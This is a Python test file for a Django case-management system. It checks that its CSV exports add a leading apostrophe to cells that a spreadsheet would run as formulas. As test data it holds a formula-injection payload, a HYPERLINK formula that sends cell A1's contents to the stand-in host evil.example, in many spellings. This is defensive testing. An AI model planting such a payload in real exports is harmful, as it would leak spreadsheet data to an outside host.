"""CSV formula injection (issue 11): a text cell that a spreadsheet would run as a formula gets a
leading apostrophe (OWASP), also when blanks or line breaks come before the formula sign; numbers,
dates and register codes pass unchanged. Checked on every CSV the product writes: the register
extract and the manager report."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date
from typing import cast

import pytest
from django.test import Client
from django.urls import reverse

from accounts.models import Unit, User
from cases.models import Case
from reports import documents
from reports.csv_export import cell, csv_bytes
from reports.selectors import Period
from tests import factories
from treatment_options.models import Episode, Offer, Provider

# tests/factories.py has no type hints yet: what each factory makes, for mypy.
make_case = cast(Callable[..., Case], factories.CaseFactory)
make_offer = cast(Callable[..., Offer], factories.OfferFactory)
make_provider = cast(Callable[..., Provider], factories.ProviderFactory)
make_user = cast(Callable[..., User], factories.UserFactory)

# A spreadsheet reads a cell as a formula when it starts with one of these …
FORMULA_SIGNS = ["=", "+", "-", "@"]
# … and it skips blanks and line breaks before it decides (" =1+1" is a formula too).
LEADS = ["", " ", "   ", "\n", "\r\n", "\t", "\r", " \n\t ", "\u00a0"]
PAYLOAD = 'HYPERLINK("https://evil.example/?x="&A1;"Klik")'


def dangerous_texts(sign: str) -> list[str]:
    return [f"{lead}{sign}{PAYLOAD}" for lead in LEADS]


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("sign", FORMULA_SIGNS)
def test_one_function_defuses_every_spelling_of_a_formula(sign: str) -> None:
    for text in dangerous_texts(sign):
        assert cell(text) == "'" + text, repr(text)


def test_only_text_a_spreadsheet_would_run_is_defused() -> None:
    for text in ["\tHansen", "\rHansen", " \t=1+1", "\n\r+1"]:
        assert cell(text) == "'" + text, repr(text)
    # Numbers, dates and register codes pass unchanged; so does text with a sign inside.
    values = [-3, 0, 12, -2.5, 1234.5, date(2026, 10, 1), True, None]
    texts = ["SEL101A", "SUL141", "2026-00001", "241290-4321", "Team Nord", " Nord", "a=b", "x-1"]
    assert [cell(value) for value in values] == [
        "-3", "0", "12", "-2,5", "1234,5", "01-10-2026", "Ja", "",
    ]  # fmt: skip
    assert [cell(text) for text in texts] == texts


@pytest.mark.parametrize("sign", FORMULA_SIGNS)
def test_the_written_file_keeps_the_apostrophe_and_the_text(sign: str) -> None:
    texts = dangerous_texts(sign)
    (row,) = rows_of(csv_bytes([texts]))
    assert row == ["'" + text for text in texts]


# --- the register extract --------------------------------------------------------------------


def portal_id(text: str, number: int) -> str:
    """A Tilbudsportalen id that starts with the dangerous text and fits its column (30
    characters; PostgreSQL refuses a longer one, SQLite would not)."""
    suffix = f"#{number}"
    return text[: 30 - len(suffix)] + suffix


@pytest.mark.parametrize("sign", FORMULA_SIGNS)
def test_register_extract_defuses_formulas_in_provider_and_offer_names(
    client: Client, manager: User, team_nord: Unit, sign: str
) -> None:
    texts = dangerous_texts(sign)
    for number, text in enumerate(texts):
        offer = make_offer(
            provider=make_provider(
                name=f"{text} {number}", tilbudsportalen_id=portal_id(text, number)
            ),
            name=text,
        )
        Episode.objects.create(
            case=make_case(
                team=team_nord, number=f"2026-{number + 1:05d}", inquiry_date=date(2026, 10, 1)
            ),
            offer=offer,
            referral_date=date(2026, 10, 2),
            actual_start=date(2026, 10, 5),
        )
    client.force_login(manager)

    response = client.get(
        reverse("reports:register_extract", kwargs={"unit_id": team_nord.pk}),
        {"register": "stof-social", "maaned": "2026-10"},
    )

    assert response.status_code == 200
    header, *rows = rows_of(response.content)
    assert len(rows) == len(texts)
    for number, (text, row) in enumerate(zip(texts, rows, strict=True)):
        line = dict(zip(header, row, strict=True))
        assert line["TilbudsportalenID"] == "'" + portal_id(text, number)
        assert line["Tilbudsnavn"] == "'" + text
        # The register's own codes and the dates pass unchanged.
        assert line["KONTAKTFORLOEBID"] == f"2026-{number + 1:05d}"
        assert line["Lovgrundlag"] == "SEL101"
        assert line["BehandlingAnmodningDato"] == "01-10-2026"


# --- the manager report ----------------------------------------------------------------------


@pytest.mark.parametrize("sign", FORMULA_SIGNS)
def test_manager_report_csv_defuses_formulas_in_names(
    team_nord: Unit, manager: User, sign: str
) -> None:
    period = Period(date(2026, 10, 1), date(2026, 10, 31))
    caseworker = make_user(unit=team_nord, first_name=f"{sign}{PAYLOAD}", last_name="")
    make_case(team=team_nord, caseworker=caseworker, inquiry_date=date(2026, 10, 5))
    for text in dangerous_texts(sign):
        team_nord.name = text
        team_nord.save(update_fields=["name"])
        manager.first_name = text
        manager.last_name = ""
        manager.save(update_fields=["first_name", "last_name"])

        content = documents.manager_report_csv(
            unit=team_nord, period=period, user=manager, today=date(2026, 11, 23)
        )

        rows = rows_of(content)
        assert rows[0] == ["Lederrapport", "'" + text], repr(text)
        printed_by = next(row for row in rows if row and row[0] == "Udskrevet af")
        assert printed_by[1] == "'" + text.strip(), repr(text)
        caseload = next(row for row in rows if row and row[0].endswith(f"{sign}{PAYLOAD}"))
        assert caseload[0] == f"'{sign}{PAYLOAD}"
        assert caseload[1:] == ["1", "1", "0"]
